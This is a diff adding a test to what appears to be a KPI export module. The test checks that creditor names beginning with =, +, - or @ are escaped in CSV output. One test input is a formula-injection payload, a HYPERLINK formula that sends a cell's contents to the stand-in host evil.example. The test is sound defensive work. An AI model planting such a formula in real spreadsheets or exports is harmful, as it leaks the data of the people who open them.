@@ -186,6 +186,19 @@ describe('KPIs', () => {
 		});
 	});
 
+	it('the CSV never lets a creditor name run as a formula in the spreadsheet', async () => {
+		const name = '=HYPERLINK("http://evil.example/?d="&B2;"Ver indicadores")';
+		const c = await factory.creditor(A.agencyId, { displayName: name });
+		// What the export route does: the name as scopeFor reads it, the figures, the file.
+		const reach = (await kpis.scopeFor(db(), { agencyId: A.agencyId, creditorId: null }, c.id))!;
+		expect(reach.creditorName).toBe(name);
+		const figures = await kpis.compute(db(), reach.scope, OCT);
+		expect(kpis.toCsv(figures, reach.creditorName)).toContain(`\r\nCredor;"'=HYPERLINK(""http://evil.example/?d=""&B2;""Ver indicadores"")"\r\n`);
+		expect(kpis.toCsv(figures, '+55 11 3333-4444')).toContain(`\r\nCredor;'+55 11 3333-4444\r\n`);
+		expect(kpis.toCsv(figures, '-1')).toContain(`\r\nCredor;'-1\r\n`);
+		expect(kpis.toCsv(figures, '@SOMA(1;2)')).toContain(`\r\nCredor;"'@SOMA(1;2)"\r\n`);
+	});
+
 	it('scoping: a creditor manager sees only their creditor; another creditor or agency is out of reach', async () => {
 		const manager = { agencyId: A.agencyId, creditorId: A.creditorId };
 		expect(await kpis.scopeFor(db(), manager, null)).toMatchObject({ scope: { agencyId: A.agencyId, creditorId: A.creditorId } });
